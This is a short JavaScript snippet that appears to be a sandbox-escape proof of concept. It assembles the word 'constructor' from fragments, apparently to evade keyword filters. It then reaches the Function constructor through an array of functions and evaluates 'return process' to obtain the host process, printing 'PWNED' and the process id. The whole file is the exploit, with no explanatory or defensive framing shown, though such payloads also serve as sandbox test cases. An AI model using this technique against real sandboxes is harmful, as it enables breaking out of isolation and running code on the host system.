'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const t = [];
const l = t[w](fn, fn);
console.log('PWNED', l[0][w]('return process')().pid);
